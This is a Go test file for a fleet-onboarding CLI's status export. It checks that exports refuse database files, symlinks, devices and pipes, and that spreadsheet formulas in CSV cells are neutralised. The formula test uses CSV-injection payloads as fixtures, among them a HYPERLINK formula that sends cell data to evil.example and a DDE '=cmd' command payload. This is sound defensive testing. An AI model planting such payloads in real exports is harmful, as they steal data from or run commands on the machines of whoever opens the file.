//go:build unix

package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/flipkyc/flipkyc/fleet"
)

// exportRun onboards one agent and returns the run's database.
func exportRun(t *testing.T, suffix string) (vars map[string]string, agents []fleetAgent, db string) {
	t.Helper()
	agents = []fleetAgent{{suffix: suffix}}
	csvPath := writeFleetRun(t, agents)
	_, vars = fakeEnv(t)
	r := fleetCLI(t, vars, agents, append([]string{"onboard", "--csv", csvPath}, fast...)...)
	require.Equal(t, exitOK, r.code, r.stderr)
	return vars, agents, defaultDB(csvPath)
}

// status --export writes only a regular file the user named: never the
// run's database, its companions (-wal, -shm, -journal, .lock), a link to
// one of them, nor a device, directory or pipe; it writes through a
// temporary file in the same directory and renames it, owner-only.
func TestExportRefusesWhatIsNotItsFile(t *testing.T) {
	t.Parallel()
	vars, agents, db := exportRun(t, "910001")
	dir := t.TempDir()
	link := filepath.Join(dir, "link.csv")
	require.NoError(t, os.Symlink(db, link))
	hard := filepath.Join(filepath.Dir(db), "hard.csv")
	require.NoError(t, os.Link(db, hard))
	relative, err := filepath.Rel(mustGetwd(t), db)
	require.NoError(t, err)
	device := filepath.Join(dir, "null")
	haveDevice := syscall.Mknod(device, syscall.S_IFCHR|0o666, 1<<8|3) == nil // as /dev/null, where allowed
	fifo := filepath.Join(dir, "fifo")
	require.NoError(t, syscall.Mkfifo(fifo, 0o644))
	before, err := os.ReadFile(db)
	require.NoError(t, err)
	var absent []string
	for _, suffix := range runFileSuffixes {
		if _, err := os.Stat(db + suffix); err != nil {
			absent = append(absent, db+suffix)
		}
	}
	require.NotEmpty(t, absent, "the run is closed: SQLite's -wal, -shm and -journal are gone")

	targets := []string{db, db + "-wal", db + "-shm", db + "-journal", db + ".lock", db + ".key", link, hard, relative,
		filepath.Join(filepath.Dir(db), ".", filepath.Base(db)), dir, fifo}
	if haveDevice {
		require.NoError(t, os.Chmod(device, 0o666))
		targets = append(targets, device)
	}
	for _, target := range targets {
		r := fleetCLI(t, vars, agents, "status", "--db", db, "--export", target)
		assert.Equal(t, exitUsage, r.code, "--export %s: %s", target, r.stderr)
		assert.Contains(t, r.stderr, "--export", target)
		assert.Empty(t, r.stdout, "nothing printed when the export is refused")
	}
	after, err := os.ReadFile(db)
	require.NoError(t, err)
	assert.True(t, bytes.Equal(before, after), "the run's database is untouched")
	assert.Equal(t, exitOK, fleetCLI(t, vars, agents, "status", "--db", db).code)
	for _, companion := range absent {
		assert.NoFileExists(t, companion, "no export was written in the run's place")
	}
	if haveDevice {
		st, err := os.Stat(device)
		require.NoError(t, err)
		assert.Equal(t, os.FileMode(0o666), st.Mode().Perm(), "a device's mode is not changed")
	}
	target, err := os.Readlink(link)
	require.NoError(t, err)
	assert.Equal(t, db, target, "the link is left alone")

	// A regular file, new or old, through a link or not: written whole,
	// owner-only, and nothing else is left in its directory.
	out := filepath.Join(dir, "export.csv")
	require.NoError(t, os.WriteFile(out, []byte("old"), 0o644))
	outLink := filepath.Join(t.TempDir(), "export-link.csv")
	require.NoError(t, os.Symlink(out, outLink))
	for _, target := range []string{out, outLink, filepath.Join(dir, "new.csv")} {
		r := fleetCLI(t, vars, agents, "status", "--db", db, "--export", target, "--reveal")
		require.Equal(t, exitOK, r.code, "--export %s: %s", target, r.stderr)
		recs := readCSVFile(t, target)
		require.Len(t, recs, 2)
		assert.Equal(t, agents[0].identity(), recs[1][1])
	}
	st, err := os.Lstat(outLink)
	require.NoError(t, err)
	assert.NotZero(t, st.Mode()&os.ModeSymlink, "a link to the export stays a link; the file it names is written")
	for _, name := range []string{"export.csv", "new.csv"} {
		st, err := os.Stat(filepath.Join(dir, name))
		require.NoError(t, err)
		assert.Equal(t, os.FileMode(0o600), st.Mode().Perm(), name)
	}
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	want := []string{"export.csv", "fifo", "link.csv", "new.csv"}
	if haveDevice {
		want = append(want, "null")
	}
	assert.ElementsMatch(t, want, names, "no temporary file left behind")
}

func mustGetwd(t *testing.T) string {
	t.Helper()
	wd, err := os.Getwd()
	require.NoError(t, err)
	return wd
}

// A cell that a spreadsheet would read as a formula (starting with =, +,
// -, @, a tab or a carriage return) is exported with a leading single
// quote, as OWASP's CSV-injection guidance says; every other cell, numbers
// included, as it is.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	vars, agents, db := exportRun(t, "920001")
	for _, tc := range []struct{ status, reason string }{
		{`=HYPERLINK("http://evil.example/?x="&A2,"click")`, "@SUM(1+1)"},
		{"+1+2", "-2+3"},
		{"\tTAB", "\rCR"},
		{"＝1+1", "ok reason"},
		{"APPROVED", "=cmd|' /C calc'!A0"},
	} {
		quote := func(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }
		execDB(t, db, "UPDATE fleet_agents SET state = 'attention', kyc_status = "+quote(tc.status)+", attention = "+quote(tc.reason))
		out := filepath.Join(t.TempDir(), "export.csv")
		require.Equal(t, exitOK, fleetCLI(t, vars, agents, "status", "--db", db, "--export", out, "--reveal").code)
		recs := readCSVFile(t, out)
		require.Len(t, recs, 2)
		row := recs[1]
		assert.Equal(t, "2", row[0], "numbers as they are")
		assert.Equal(t, agents[0].identity(), row[1])
		for i, want := range map[int]string{4: tc.status, 7: tc.reason} {
			switch want[0] {
			case '=', '+', '-', '@', '\t', '\r':
				want = "'" + want
			default:
				if want == "＝1+1" {
					want = "'" + want
				}
			}
			assert.Equal(t, want, row[i], "column %s", recs[0][i])
		}
	}
}

// No output flag writes over a run's database or its companion files,
// whichever run they belong to: --export of run A over run B's database,
// and the fake's --env-file (which knows no run) over any run's, are
// refused, and the database is untouched.
func TestOutputNeverOverwritesARunDatabase(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	other := filepath.Join(dir, "other.fleet.db")
	d, err := fleet.Open(context.Background(), other)
	require.NoError(t, err)
	require.NoError(t, d.Close())
	for _, suffix := range []string{"-wal", "-journal"} {
		require.NoError(t, os.WriteFile(other+suffix, nil, 0o600), "a companion left by a run that stopped")
	}
	before, err := os.ReadFile(other)
	require.NoError(t, err)
	link := filepath.Join(t.TempDir(), "innocent.csv")
	require.NoError(t, os.Symlink(other, link))
	this := filepath.Join(dir, "this.fleet.db")
	for _, tc := range []struct{ flag, dsn string }{{"--export", this}, {"--env-file", ""}} {
		for _, target := range []string{other, other + "-wal", other + "-journal", other + ".lock", link} {
			_, err := outputTarget(tc.flag, target, tc.dsn)
			assert.Error(t, err, "%s %s", tc.flag, target)
			assert.ErrorContains(t, err, tc.flag)
		}
		_, err := outputTarget(tc.flag, filepath.Join(dir, "export.csv"), tc.dsn)
		assert.NoError(t, err, "a new file beside the run")
	}
	after, err := os.ReadFile(other)
	require.NoError(t, err)
	assert.True(t, bytes.Equal(before, after))
}
